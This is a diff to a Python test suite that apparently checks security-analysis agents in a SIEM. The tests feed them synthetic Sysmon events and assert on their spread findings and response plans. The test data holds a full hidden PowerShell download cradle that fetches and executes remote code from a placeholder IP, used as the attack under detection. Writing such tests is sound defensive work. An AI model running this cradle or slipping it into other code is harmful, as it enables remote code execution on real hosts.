@@ -8,6 +8,7 @@ from __future__ import annotations
 from collections.abc import AsyncIterator
 from dataclasses import dataclass
 from datetime import UTC, datetime, timedelta
+from itertools import count
 from typing import Any
 
 import pytest
@@ -38,7 +39,8 @@ from tests.stack import Servers
 from tests.unit.agents.agent_kit import Told, context
 
 SYSMON = "Microsoft-Windows-Sysmon/Operational"
-CRADLE = "powershell.exe -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/{mark}')"
+_NUMBERS = count(1)
+CRADLE = "powershell.exe -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://{address}/{mark}')"
 
 
 @pytest_asyncio.fixture(scope="module", loop_scope="session")
@@ -62,6 +64,8 @@ class Estate:
     service: Siem
     mark: str
     start: datetime
+    #: Of no other test's estate: what several hosts share is what a hunter looks for.
+    number: int
 
     @property
     def user(self) -> str:
@@ -69,7 +73,11 @@ class Estate:
 
     @property
     def command(self) -> str:
-        return CRADLE.format(mark=self.mark)
+        return CRADLE.format(address=self.address, mark=self.mark)
+
+    @property
+    def address(self) -> str:
+        return f"192.0.2.{self.number}"
 
     def host(self, number: int) -> str:
         return f"ws{number}-{self.mark}"
@@ -88,7 +96,7 @@ class Estate:
         await self.happens(number, minute, SYSMON, 1, ProcessGuid=guid, ProcessId=4242, **data)
 
     async def logs_on(self, number: int, minute: float, user: str | None = None) -> None:
-        data = {"TargetUserName": user or self.user, "LogonType": 3, "IpAddress": "10.1.2.3"}
+        data = {"TargetUserName": user or self.user, "LogonType": 3, "IpAddress": f"10.1.2.{self.number}"}
         await self.happens(number, minute, "Security", 4624, Keywords="0x8020000000000000", **data)
 
     async def clears_the_log(self, number: int, minute: float) -> None:
@@ -118,7 +126,7 @@ class Estate:
 @pytest.fixture
 def estate(service: Siem) -> Estate:
     mark = new_id().replace("-", "")[-10:]
-    return Estate(service, mark, datetime.now(UTC).replace(microsecond=0) - timedelta(minutes=10))
+    return Estate(service, mark, datetime.now(UTC).replace(microsecond=0) - timedelta(minutes=10), next(_NUMBERS))
 
 
 def at_work(agent: str, api: Client) -> Work:
@@ -207,9 +215,13 @@ async def test_a_timeline_needs_a_host_and_a_time(api: Client) -> None:
 async def test_the_same_command_on_other_hosts_is_a_spread(estate: Estate, api: Client) -> None:
     for number in (1, 2, 3):
         await estate.runs(number, number, estate.command)
+    # Of a small estate three hosts are most.
+    for number in range(4, 14):
+        await estate.runs(number, 1, "ipconfig /all")
     alert = await estate.alert(api, "event.code:1")
     alone = await hunted(api, alert)
-    assert any("2 other hosts" in finding.claim for finding in alone.findings)
+    told = [finding.claim for finding in alone.findings]
+    assert any("2 other hosts" in claim for claim in told), [told, alone.ruled_out, alone.not_checked]
     assert alone.verdict != "benign"
     finding = Finding(agent="triage", claim=f"downloads: {estate.command}", confidence=0.9, citations=["tr_1"])
     prior = Prior(agent="triage", verdict="malicious", severity="high", confidence=0.9, findings=[finding])
@@ -283,7 +295,7 @@ async def test_a_plan_is_about_what_the_evidence_shows_and_nothing_else(estate: 
         verdict="malicious",
         severity="high",
         entities=[Observable("host", estate.host(1)), Observable("host", f"elsewhere-{estate.mark}")],
-        iocs=[Observable("ip", "192.0.2.7"), Observable("ip", "45.33.32.156")],
+        iocs=[Observable("ip", estate.address), Observable("ip", "45.33.32.156")],
         mitre_techniques=["T1059.001"],
     )
     plan = await IncidentResponder().plan_response(request, at_work("incident_responder", api))
@@ -292,7 +304,7 @@ async def test_a_plan_is_about_what_the_evidence_shows_and_nothing_else(estate: 
     assert ("disable_account", estate.user) in about
     assert ("end_process", "4242") in about
     assert ("disable_service", f"svc{estate.mark}") in about
-    assert ("block_address", "192.0.2.7") in about
+    assert ("block_address", estate.address) in about
     assert not {estate.host(2), f"elsewhere-{estate.mark}", "45.33.32.156"} & {value for _, value in about}
     assert any("elsewhere" in reason for reason in plan.not_planned)
     assert any("45.33.32.156" in reason for reason in plan.not_planned)
